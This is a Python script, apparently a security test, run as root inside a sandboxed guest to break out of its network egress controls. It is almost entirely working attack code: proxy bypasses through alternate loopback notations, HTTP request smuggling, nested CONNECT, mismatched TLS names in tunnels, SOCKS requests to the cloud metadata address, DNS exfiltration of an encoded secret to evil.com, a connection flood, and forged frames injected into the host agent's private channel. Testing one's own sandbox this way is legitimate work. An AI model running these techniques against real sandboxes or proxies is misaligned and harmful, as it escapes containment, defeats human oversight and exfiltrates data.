"""Root in the guest against the way out: FIELD.md's classes 3, 4 and 5. Prints one JSON object. Argument: the targets."""
import ctypes, fcntl, json, os, re, socket, ssl, struct, sys, threading, time

aim = json.loads(sys.argv[1])
HOST, PROXY = "host.silo.internal", ("127.0.0.1", 18018)
results = {}


def attack(body):
    try:
        results[body.__name__] = body()
    except Exception as error:
        results[body.__name__] = f"{type(error).__name__}: {error}"


def proxy(data, then=b"", limit=12):
    """What the proxy answers to these bytes, to the end or for some seconds."""
    with socket.create_connection(PROXY, timeout=limit) as client:
        client.sendall(data)
        answer = b""
        try:
            while piece := client.recv(65536):
                answer += piece
                if then and answer:
                    client.sendall(then)
                    then = b""
                if len(answer) > 100000:
                    break
        except (TimeoutError, ConnectionResetError) as error:
            answer += f"<{type(error).__name__}>".encode()
        return answer.decode(errors="replace")[:300]


def direct(address, port):
    with socket.create_connection((address, port), timeout=5) as client:
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return repr(client.recv(100))


ADDRESSES = [*aim["addresses"], "127.0.0.1", "0.0.0.0", "[::1]", "[::]", "2130706433", "0x7f000001", "0177.0.0.1", "127.1",
             "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "localhost", "LOCALHOST.", aim["name"]]


@attack
def own_interfaces():
    made = os.system("ip link add dummy0 type dummy 2>/dev/null && ip addr add 10.0.0.2/24 dev dummy0 && ip link set dummy0 up") == 0
    answers = []
    for address in aim["addresses"]:
        try:
            answers.append(direct(address, aim["port"]))
        except OSError as error:
            answers.append(error.errno is not None or str(error))
    return {"interfaces": sorted(set(os.listdir("/sys/class/net")) - {"dummy0"}), "made": made, "answers": answers}


@attack
def raw_sockets():
    sent = []
    for family, kind, protocol in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_INET, socket.SOCK_DGRAM, 0)]:
        with socket.socket(family, kind, protocol) as raw:
            try:
                raw.sendto(b"x" * 64, (aim["addresses"][0], aim["port"]))
                sent.append(True)
            except OSError as error:
                sent.append(error.strerror)
    return sent


@attack
def connect_to_every_notation():
    return [proxy(f"CONNECT {address}:{aim['port']} HTTP/1.1\r\nHost: {address}:{aim['port']}\r\n\r\n".encode())[:12] for address in ADDRESSES]


@attack
def absolute_form_to_every_notation():
    return [proxy(f"GET http://{address}:{aim['port']}/ HTTP/1.1\r\nHost: {address}:{aim['port']}\r\nConnection: close\r\n\r\n".encode())[:12] for address in ADDRESSES]


@attack
def host_ports_by_other_names():
    return [proxy(f"CONNECT {name}:{aim['port']} HTTP/1.1\r\nHost: x\r\n\r\n".encode())[:12] for name in (HOST, "HOST.SILO.INTERNAL.", "user@" + HOST, HOST + "%00", "x." + HOST)]


@attack
def host_that_differs():
    allowed = f"{HOST}:{aim['allowed']}"
    return proxy(f"GET http://{allowed}/ HTTP/1.1\r\nHost: {aim['name']}:{aim['port']}\r\n\r\n".encode())[:12]


@attack
def pipelined_second_request():
    allowed = f"{HOST}:{aim['allowed']}"
    first = f"GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n"
    second = f"GET http://{aim['name']}:{aim['port']}/ HTTP/1.1\r\nHost: {aim['name']}:{aim['port']}\r\n\r\n"
    return re.findall(r"HTTP/1.[01] (\d+)", proxy((first + second).encode()))


@attack
def smuggled_requests():
    allowed, forbidden = f"{HOST}:{aim['allowed']}", f"{aim['name']}:{aim['port']}"
    inner = f"GET http://{forbidden}/ HTTP/1.1\r\nHost: {forbidden}\r\n\r\n"
    head = f"POST http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n"
    return [proxy((head + fields + "\r\n" + body).encode("latin-1"))[:12] for fields, body in [
        ("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + inner),
        ("Content-Length: 0\r\nContent-Length: 90\r\n", inner),
        ("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + inner),
        ("Transfer-Encoding:\x0bchunked\r\n", "0\r\n\r\n" + inner),
        ("X: a\r\n folded\r\n", inner),
        ("X: a\nHost: b\r\n", inner),
        ("X: \0\r\n", inner),
        ("Content-Length: +4\r\n", "0\r\n\r\n" + inner),
    ]]


@attack
def nested_connect():
    allowed = f"{HOST}:{aim['tls']}"
    forbidden = f"{aim['name']}:{aim['port']}"
    return proxy(f"CONNECT {forbidden} HTTP/1.1\r\nHost: {forbidden}\r\n\r\nCONNECT {forbidden} HTTP/1.1\r\n\r\n".encode())[:12]


def tunnel(data):
    """What comes back in a tunnel to the allowed server for these bytes."""
    allowed = f"{HOST}:{aim['allowed']}"
    return proxy(f"CONNECT {allowed} HTTP/1.1\r\nHost: {allowed}\r\n\r\n".encode(), data).partition("\r\n\r\n")[2]


def client_hello(name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return out.read()


@attack
def tls_for_somebody_else():
    """Each answer begins as a TLS alert does."""
    return [tunnel(client_hello(name))[:1] == "\x15" for name in (aim["name"], "x." + HOST, "example.com")]


@attack
def requests_in_an_allowed_tunnel():
    forbidden = f"{aim['name']}:{aim['port']}"
    return [tunnel(line.encode()) for line in (
        f"CONNECT {forbidden} HTTP/1.1\r\nHost: {forbidden}\r\n\r\n",
        f"GET http://{forbidden}/ HTTP/1.1\r\nHost: {forbidden}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {forbidden}\r\n\r\n",
    )]


@attack
def names_with_controls():
    return [proxy(b"CONNECT " + name + b":443 HTTP/1.1\r\nHost: x\r\n\r\n")[:12] for name in
            (b"a\0b.com", b"a\rb.com", b"\x1b]52;c;ZXZpbA==\x07.com", b"x" * 5000, b"\xff\xfe.com", b"xn--a.com")]


@attack
def socks_to_addresses():
    codes = []
    for address in aim["addresses"] + ["127.0.0.1", "169.254.169.254"]:
        with socket.create_connection(PROXY, timeout=10) as client:
            client.sendall(b"\x05\x01\x00")
            client.recv(2)
            client.sendall(b"\x05\x01\x00\x01" + socket.inet_aton(address) + struct.pack(">H", aim["port"]))
            codes.append((client.recv(64) or b"\0\xff")[1])
    return codes


@attack
def direct_addresses_nobody_gave_out():
    errors = []
    for address in ("198.18.0.1", "198.18.0.200", "198.19.255.254"):
        for port in (aim["port"], aim["allowed"], 80):
            try:
                errors.append(direct(address, port))
            except OSError as error:
                errors.append(error.errno == 104 or str(error))
    return errors


@attack
def dns_as_a_channel():
    def ask(message):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(5)
            client.sendto(message, ("127.0.0.1", 53))
            return client.recv(4096)[3] & 15
    head = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0)
    label = lambda *parts: b"".join(bytes([len(part)]) + part for part in parts) + b"\0"
    secret = [b"c2VjcmV0" * 7] * 3
    return [ask(head + label(*secret, b"evil", b"com") + struct.pack(">HH", kind, 1)) for kind in (1, 16, 10, 255)]


@attack
def floods():
    """More connections than may be, half of them open for ever, and bytes of no protocol; then an honest one."""
    held = []
    for number in range(1500):
        client = socket.socket()
        client.setblocking(False)
        try:
            client.connect(PROXY)
        except BlockingIOError:
            pass
        held.append(client)
    for client in held[:200]:
        try:
            client.send(os.urandom(64))
        except OSError:
            pass
    for client in held:
        client.close()
    for _ in range(300):
        with socket.create_connection(PROXY, timeout=20) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return proxy(f"GET http://{HOST}:{aim['allowed']}/ HTTP/1.1\r\nHost: {HOST}:{aim['allowed']}\r\nConnection: close\r\n\r\n".encode(), limit=30)[:12]


def forged_streams():
    """On the agent's own channel: streams of kinds and to places that the agent would never ask for."""
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, 1, 0)
    port = next(name for name in os.listdir("/proc/1/fd") if re.match("^/dev/vport", os.readlink("/proc/1/fd/" + name)))
    fd = libc.syscall(438, pidfd, int(port), 0)
    frame = lambda kind, stream, payload: struct.pack("<BBHII", kind, 0, 0, stream, len(payload)) + payload
    wanted = [*aim["addresses"], "127.0.0.1", "169.254.169.254", "0.0.0.0", "255.255.255.255"]
    data, stream = b"", 0x40000000
    for address in wanted:
        stream += 2
        value = struct.unpack(">I", socket.inet_aton(address))[0]
        data += frame(2, stream, b"\x03" + struct.pack("<IH", value, aim["port"])) + frame(3, stream, b"GET / HTTP/1.0\r\n\r\n")
    os.set_blocking(fd, True)
    os.write(fd, data)
    time.sleep(3)


print(json.dumps(results), flush=True)
# Last, for the agent does not survive answers to what it never asked.
forged_streams()
